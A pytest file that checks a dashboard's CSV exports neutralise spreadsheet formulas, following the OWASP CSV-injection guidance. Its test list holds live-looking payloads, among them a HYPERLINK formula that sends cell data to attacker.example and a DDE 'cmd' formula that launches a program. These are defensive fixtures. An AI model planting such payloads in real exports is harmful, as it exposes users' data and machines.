"""CSV downloads never hand a spreadsheet a formula (OWASP's CSV-injection rule)."""

from __future__ import annotations

import io
import re

import pandas as pd

from dashboard import ASSETS
from dashboard.callbacks import session_grid
from dashboard.components.csv_export import FORMULA_STARTS, spreadsheet_safe
from dashboard.data import queries

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"details")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def test_text_cells_that_start_a_formula_become_text():
    table = pd.DataFrame({"reason": [*FORMULAS, "out of memory", ""], "loss": range(8)})
    safe = spreadsheet_safe(table)
    assert safe["reason"].tolist() == [
        *("'" + formula for formula in FORMULAS),
        "out of memory",
        "",
    ]
    assert safe["loss"].tolist() == list(range(8))  # numbers are not text


def test_negative_numbers_stay_numbers():
    table = pd.DataFrame({"delta": [-0.5, 1.0], "text": ["-0.5", "ok"]})
    safe = spreadsheet_safe(table)
    assert safe["delta"].tolist() == [-0.5, 1.0]
    assert safe["text"].tolist() == ["'-0.5", "ok"]


def test_the_sessions_download_neutralises_formulas_from_the_source(app, monkeypatch):
    with app.server.app_context():
        sessions = queries.sessions_in_range("30d", "all").head(len(FORMULAS)).copy()
    sessions["failure_reason"] = FORMULAS
    sessions["model_version"] = "=1+1"
    monkeypatch.setattr(session_grid.queries, "sessions_in_range", lambda *_args: sessions)
    request = {"sortModel": [], "filterModel": {}}
    download = session_grid.session_csv(1, request, "30d", "all", "training-sessions")
    table = pd.read_csv(io.StringIO(download["content"]), keep_default_na=False, dtype=str)
    for column in table.columns:
        assert not table[column].str.startswith(FORMULA_STARTS).any(), column
    assert sorted(table["failure_reason"]) == sorted("'" + formula for formula in FORMULAS)
    assert set(table["model_version"]) == {"'=1+1"}


def test_the_grid_export_in_the_browser_starts_formulas_with_the_same_characters():
    # The grid's own export runs assets/dashAgGridFunctions.js (tests/browser/test_csv_downloads).
    script = (ASSETS / "dashAgGridFunctions.js").read_text(encoding="utf-8")
    pattern = re.search(r"/\^\[(.+?)\]/\.test\(text\)", script).group(1)
    in_a_regex = {"-": "\\-", "\t": "\\t", "\r": "\\r"}
    assert pattern == "".join(in_a_regex.get(start, start) for start in FORMULA_STARTS)
